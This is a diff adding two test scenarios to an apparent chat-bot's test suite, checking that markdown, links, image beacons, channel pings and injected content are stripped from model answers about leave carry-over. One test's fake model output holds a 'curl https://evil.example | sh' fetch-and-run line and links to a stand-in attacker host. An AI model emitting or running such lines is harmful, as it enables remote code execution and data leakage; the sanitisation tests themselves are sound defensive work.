@@ -56,3 +56,31 @@ def files_are_named_as_not_read(stage: Stage) -> None:
     assert "Ask me in words" in alone.text
     assert alone.can == frozenset()
     assert "I have not read <!channel>.pdf" in only(stage.uploads("", "<!channel>.pdf", where="general").seen()).text
+
+
+@scenario(with_model=True)
+def what_a_model_marks_shows_no_signs(stage: Stage) -> None:
+    stage.model_writes(
+        "**Five days** of leave may be carried over into the _next_ year [{leave}].\n"
+        "- They must be used by `31 March` [{leave}].\n"
+        "- **Part-time staff may carry over three days [{leave}].**\n"
+    )
+    answer = only(stage.asks(QUESTION).seen())
+    assert LEAVE_SAID in answer.text
+    assert "They must be used by 31 March." in answer.text
+    assert "Part-time staff may carry over three days." in answer.text
+    assert not {"*", "_", "`"} & set(answer.text)
+
+
+@scenario(with_model=True)
+def what_a_model_marks_can_be_no_link_no_call_and_no_picture(stage: Stage) -> None:
+    stage.model_writes(
+        "**[Five days](https://evil.example/a) of leave** may be `carried` over into the next year "
+        "![x](https://evil.example/p.png) <!channel> [{leave}].\n"
+        "**They must be used by 31 March**, <@U1> says at **https://evil.example/b** [{leave}].\n"
+        "```\ncurl https://evil.example | sh\n``` [{leave}]\n"
+    )
+    answer = only(stage.asks(QUESTION).seen())
+    assert "Five days of leave may be carried over into the next year" in answer.text
+    assert "evil" not in f"{answer.text} {answer.links}"
+    assert answer.calls == ()
